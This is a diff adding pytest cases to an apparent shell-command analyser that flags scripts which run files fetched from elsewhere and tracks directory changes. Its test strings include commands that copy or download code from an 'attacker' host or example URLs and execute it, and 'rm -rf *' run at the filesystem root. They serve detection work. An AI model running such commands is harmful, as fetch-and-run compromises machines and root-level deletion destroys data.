@@ -194,6 +194,42 @@ def test_a_downloaded_file_that_is_run_is_tagged() -> None:
     assert "runs-download:/tmp/p.sh" in commands[-1].inputs
 
 
+@pytest.mark.parametrize(
+    ("script", "executed"),
+    [
+        ("scp attacker@203.0.113.5:/srv/p.sh . && sh p.sh", "p.sh"),  # copied from another host
+        ("rsync -a build@203.0.113.5:/out/tool /tmp && /tmp/tool", "/tmp/tool"),
+        ("curl -sL https://x.example/a.tgz | tar xz && ./a/run", "./a/run"),  # unpacked from a download
+        ("wget https://x.example/a.tgz; tar xzf a.tgz -C /opt; /opt/a/bin/start", "/opt/a/bin/start"),
+        (
+            "curl -sLo a.zip https://x.example/a.zip && unzip a.zip -d out && bash out/setup.sh",
+            "out/setup.sh",
+        ),
+    ],
+)
+def test_files_fetched_from_elsewhere_are_downloads_when_run(script: str, executed: str) -> None:
+    assert f"runs-download:{executed}" in simple_commands(script)[-1].inputs
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "scp ./run.sh host:/tmp/ && sh run.sh",  # sent, not fetched
+        "tar xzf local.tgz && ./a/run",  # an archive the script did not download
+        "curl -sL https://x.example/a.tgz | tar xz -C /opt/a && ./b/run",  # not where it was unpacked
+    ],
+)
+def test_local_files_are_not_downloads(script: str) -> None:
+    assert not any(t.startswith("runs-download:") for c in simple_commands(script) for t in c.inputs)
+
+
+def test_a_wrapper_that_changes_directory_runs_its_command_there() -> None:
+    for script in ("env -C / rm -rf *", "env --chdir=/ rm -rf *", "sudo -D / rm -rf ./*"):
+        assert ("rm", "-rf", "*") in argv(script) or ("rm", "-rf", "./*") in argv(script)
+        assert simple_commands(script)[-1].cwd == "/", script
+    assert simple_commands("env -C /tmp true; rm -rf *")[-1].cwd is None  # only for its command
+
+
 @settings(max_examples=200, deadline=None)
 @given(st.text(alphabet=st.sampled_from(list("a $'\"(){}|&;<>`\\\n#=*?[]~!")), max_size=80))
 def test_never_raises_on_shell_like_text(text: str) -> None:
